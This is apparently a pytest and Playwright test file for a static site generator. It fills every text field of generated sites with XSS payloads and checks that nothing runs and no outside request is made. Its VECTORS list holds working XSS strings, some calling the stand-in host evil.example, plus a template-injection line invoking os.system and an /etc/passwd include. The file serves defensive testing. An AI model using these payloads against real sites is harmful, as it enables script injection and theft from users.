"""Text that was made to run, in every field that takes text, in a real browser: nothing runs, nobody is asked, and
the pages keep to their own policy.

``CLEWLINE_PAYLOADS`` is how many of the 2,000 payloads stand in every field.
"""

import json
import os
from itertools import islice, product
from pathlib import Path

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Dialog, Page, Request

from browser.conftest import built
from serve.conftest import Server

RUN = "alert(7351)"
VECTORS = (
    "<script>{run}</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror={run}>",
    '<img src="https://evil.example/p.png">',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<iframe src=javascript:{run}></iframe>",
    '<iframe srcdoc="<script>{run}</script>"></iframe>',
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button autofocus onfocus={run}>x</button></form>",
    "<input autofocus onfocus={run}>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<a href=javascript:{run} autofocus onfocus={run}>x</a>",
    "[x](javascript:{run})",
    '![x](x.png"onerror={run})',
    "[x](https://a.example/ '\"onmouseover={run} x=\"')",
    "[[x|<img src=x onerror={run}>]]",
    '```x" onmouseover="{run}\ny\n```',
    "$\\href{{javascript:{run}}}{{x}}$",
    "$<img src=x onerror={run}>$",
    "{{{{ cycler.__init__.__globals__.os.system('x') }}}}",
    "{{% include '/etc/passwd' %}}",
)
WRAPPERS = (
    "{0}", '"{0}', "'{0}", '">{0}', "'>{0}", "--&gt;{0}", "-->{0}", "</title>{0}", "</script>{0}", "</style>{0}",
    "</textarea>{0}", "]]>{0}", "\\{0}", "<!--{0}", "<![CDATA[{0}", "&lt;{0}", "*{0}*", "`{0}", "# {0}", "> {0}",
    "- {0}", "| {0} |", "[^1]: {0}", "%%{0}", "=={0}==", "~~{0}~~", "**{0}", "[{0}", "![{0}", "[[{0}",
    "(({0}", "@{0}", "#{0}", "\u202e{0}", "\u2028{0}", "\ufdd0i0.0\ufdd1{0}", "x{0}x", "&#60;{0}", "\x01{0}", "<<{0}",
    "<b {0}", "<a href='{0}", "<p title=\"{0}", "</p>{0}", "</div></main>{0}", "<x/{0}", "<svg>{0}", "<math>{0}",
    "<table>{0}", "<select>{0}", "<template>{0}", "<noscript>{0}", "<plaintext>{0}", "<xmp>{0}", "<listing>{0}",
    "<title>{0}", "<style>{0}", "<iframe>{0}", "<frameset>{0}", "<marquee>{0}", "\t{0}", "    {0}", "$${0}",
)  # fmt: skip
PAYLOADS = [
    wrapper.format(vector.format(run=RUN)) for wrapper, vector in islice(product(WRAPPERS, VECTORS), 2000)
]
A_NOTE = 50
IN_EVERY_FIELD = int(os.environ.get("CLEWLINE_PAYLOADS", "50"))


def quoted(text: str) -> str:
    """``text`` as a value in YAML."""
    printable = "".join(c for c in text if c.isprintable()).replace("\\", "\\\\").replace('"', '\\"')
    return f'"{printable}"'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site of nothing but payloads: in titles, summaries, decks, aliases, topics, references, names, bodies."""
    root = tmp_path_factory.mktemp("hostile")
    (root / "notes" / "lines").mkdir(parents=True)
    groups = [PAYLOADS[start : start + A_NOTE] for start in range(0, len(PAYLOADS), A_NOTE)]
    for number, group in enumerate(groups):
        one, two, three = (quoted(group[place]) for place in (0, A_NOTE // 2, A_NOTE - 1))
        head = f"---\ntitle: {one}\nsummary: {two}\naliases: [{three}]\ntopics: [{two}]\nx onload: {three}\n---\n"
        (root / "notes" / f"n{number}.md").write_text(head + "\n\n".join(group), encoding="utf-8")
        line = f"---\ntitle: {two}\ndeck: {one}\nwould_change: [{three}]\ndrafted_by: {three}\n---\n"
        cited = "\n\n".join(f"As {text.splitlines()[0]} says [[n{number}]]." for text in group[:10])
        (root / "notes" / "lines" / f"q{number}.md").write_text(line + cited, encoding="utf-8")
    entries = "".join(
        f"@misc{{k{number}, title = {{{group[1]}}}, author = {{{group[2]}}}, url = {{{group[3]}}}}}\n"
        for number, group in enumerate(groups)
    )
    (root / "notes" / "k.bib").write_text(entries, encoding="utf-8")
    (root / "clewline.toml").write_text(f"title = {quoted(PAYLOADS[0])}\n", encoding="utf-8")
    return built(root, root / "_site")


@pytest.fixture(scope="module")
def everywhere(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site with a note, a line and a reference for each payload, which stands in every one of their fields."""
    root = tmp_path_factory.mktemp("everywhere")
    (root / "lines").mkdir()
    (root / "references").mkdir()
    for number, payload in enumerate(PAYLOADS[:: len(PAYLOADS) // IN_EVERY_FIELD][:IN_EVERY_FIELD]):
        value, inline = quoted(payload), " ".join(payload.split())
        shared = f"title: {value}\ntopics: [{value}]\ntags: [{value}]\naliases: [{value}]\nauthor: {value}\n"
        shared += f"drafted_by: {value}\nurl: {value}\nx onload: {value}\n"
        body = (
            f"{payload}\n\n# {inline}\n\n> [!note] {inline}\n> {inline}\n\n| {inline} |\n|---|\n| {inline} |\n\n"
            f"- [ ] {inline}\n\n[[n{number}|{inline}]] [[gone {inline}]] ![[{inline}]] [{inline}](<{inline}>)\n\n"
            f'![{inline}](x.png "{inline}") [^a] #{inline} [@{inline}] ==={inline}=== $ {inline} $\n\n[^a]: {inline}\n\n'
            f"```{inline}\n{payload}\n```\n\n$$\n{payload}\n$$\n\n%%{inline}%%\n"
        )
        note = f"---\n{shared}summary: {value}\nreferences: [k{number}]\nopposes: [{value}]\n---\n{body}"
        (root / f"n{number}.md").write_text(note, encoding="utf-8")
        line = f"---\n{shared}deck: {value}\nanswer: {value}\nwould_change: [{value}]\nnext: [{value}]\n---\n"
        (root / "lines" / f"q{number}.md").write_text(
            f"{line}As {inline} says [[n{number}]].\n\n{body}", encoding="utf-8"
        )
        fields = dict.fromkeys(
            ("title", "container-title", "publisher", "abstract", "note", "URL", "DOI", "volume", "page"),
            payload,
        )
        names = [{"family": payload, "given": payload}, {"literal": payload}]
        record = [{"id": f"k{number}", "type": "article-journal", "author": names, **fields}]
        (root / "references" / f"k{number}.json").write_text(json.dumps(record), encoding="utf-8")
    (root / "clewline.toml").write_text(
        f"title = {quoted(PAYLOADS[1])}\ndescription = {quoted(PAYLOADS[2])}\nhealth = true\n",
        encoding="utf-8",
    )
    return root


def watch(page: Page, own: str) -> list[str]:
    """What happens in a page that must not, as it does; addresses that begin with ``own`` may be asked."""
    wrong: list[str] = []

    def dialog(opened: Dialog) -> None:
        wrong.append(f"dialog on {page.url}")
        opened.dismiss()

    def console(said: ConsoleMessage) -> None:
        if "Content Security Policy" in said.text:
            wrong.append(f"{page.url}: {said.text}")

    def request(asked: Request) -> None:
        if not asked.url.startswith(own):
            wrong.append(f"request {asked.url}")

    page.on("dialog", dialog)
    page.on("console", console)
    page.on("request", request)
    return wrong


def pages_of(site: Path) -> list[Path]:
    """The pages of a site, without those that only lead on to another."""
    pages = sorted(site.rglob("*.html"))
    return [path for path in pages if '<meta http-equiv="refresh"' not in path.read_text(encoding="utf-8")]


def test_nothing_runs_and_nobody_is_asked(hostile: Path, browser: Browser) -> None:
    context = browser.new_context()
    page = context.new_page()
    wrong = watch(page, "file:")
    pages = pages_of(hostile)
    assert len(pages) > len(PAYLOADS) / A_NOTE
    for path in pages:
        page.goto(path.as_uri())
    context.close()
    assert wrong == []


def test_nothing_runs_whatever_the_field_built_and_served(everywhere: Path, browser: Browser) -> None:
    site = built(everywhere, everywhere / "_site")
    context = browser.new_context()
    page = context.new_page()
    wrong = watch(page, "file:")
    pages = pages_of(site)
    assert len(pages) > 3 * IN_EVERY_FIELD
    for path in pages:
        page.goto(path.as_uri())
    assert wrong == []
    server = Server(everywhere)
    try:
        page = context.new_page()
        wrong = watch(page, f"http://127.0.0.1:{server.port}/")
        for path in pages[:: max(1, len(pages) // IN_EVERY_FIELD)]:
            page.goto(f"http://127.0.0.1:{server.port}/{path.relative_to(site).as_posix()}")
        assert wrong == []
    finally:
        server.stop()
        context.close()
